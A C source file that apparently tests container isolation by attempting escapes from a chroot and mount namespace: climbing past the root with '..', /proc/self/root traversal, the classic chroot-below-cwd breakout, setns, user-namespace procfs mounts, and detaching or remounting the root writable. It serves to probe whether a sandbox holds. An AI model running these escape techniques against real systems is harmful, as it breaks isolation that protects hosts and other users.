// The ways out of a root that was changed by chroot(2): whatever a process reaches must be the container's own root, or nothing.
#include "attacker.h"

#include <dirent.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

static struct stat own;

// What a directory is: the container's root, or what is in it.
static void tell(const char *way, int directory) {
    struct stat s;
    if (directory < 0 || fstat(directory, &s)) {
        report(way, -1);
        return;
    }
    if (s.st_dev == own.st_dev && s.st_ino == own.st_ino) {
        printf("%s: own root\n", way);
        return;
    }
    DIR *entries = fdopendir(directory);
    int count = 0;
    for (struct dirent *entry; entries && (entry = readdir(entries));) {
        if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
        printf("%s: finds %s\n", way, entry->d_name);
        count++;
    }
    if (count == 0) printf("%s: empty\n", way);
}

static int here(const char *path) { return open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC); }

static void climb(const char *way) {
    for (int i = 0; i < 64; i++)
        if (chdir("..")) break;
    tell(way, here("."));
}

int attack_roots(char **arguments __attribute__((unused))) {
    const char *const paths[] = {"/..", "/../../..", "/proc/self/root", "/proc/self/root/..", "/proc/1/root/..", "/proc/self/cwd/../.."};
    int root = here("/");
    if (root < 0 || fstat(root, &own)) return 1;
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) tell(paths[i], here(paths[i]));
    tell("parent of a descriptor", openat(root, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    climb("climb");
    int mounts = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    report("setns", setns(mounts, CLONE_NEWNS));
    // The classic one: a root below the working directory bounds nothing.
    mkdir("/tmp/root", 0755);
    if (chdir("/") || chroot("/tmp/root")) report("chroot", -1);
    climb("climb from outside a new root");
    if (fchdir(root)) report("fchdir", -1);
    climb("climb from a descriptor outside a new root");
    tell("parent of a descriptor outside a new root", openat(root, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    if (chroot(".")) report("chroot", -1);
    tell("the root that was climbed to", here("/"));
    tell("and above", here("/../../.."));
    return 0;
}

// In namespaces of a user namespace of its own, of which it is root and pid 1.
static void mount_procfs(const char *way) {
    int status = 0;
    pid_t process = fork();
    if (process == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID)) _exit(errno);
        pid_t first = fork();
        if (first == 0) _exit(mount("none", "/tmp", "proc", 0, NULL) ? errno : 0);
        waitpid(first, &status, 0);
        _exit(WEXITSTATUS(status));
    }
    waitpid(process, &status, 0);
    errno = WEXITSTATUS(status);
    report(way, errno ? -1 : 0);
}

int attack_beneath(char **arguments __attribute__((unused))) {
    int mounts = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC), root = here("/");
    if (mounts < 0 || root < 0 || fstat(root, &own)) return 1;
    mount_procfs("a procfs without covers");
    if (setns(mounts, CLONE_NEWNS)) report("setns", -1);
    tell("the root of the namespace", here("/"));
    report("take the root off", umount2("/", MNT_DETACH));
    report("setns", setns(mounts, CLONE_NEWNS));
    tell("beneath", here("/"));
    report("make a file beneath", mkdir("/made", 0755));
    report("make it writable", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("make it writable for all", mount(NULL, "/", NULL, MS_REMOUNT, NULL));
    report("take that off too", umount2("/", MNT_DETACH));
    report("mount a procfs there", mount("none", "/", "proc", 0, NULL));
    report("mount a sysfs there", mount("none", "/", "sysfs", MS_RDONLY, NULL));
    climb("climb");
    return 0;
}
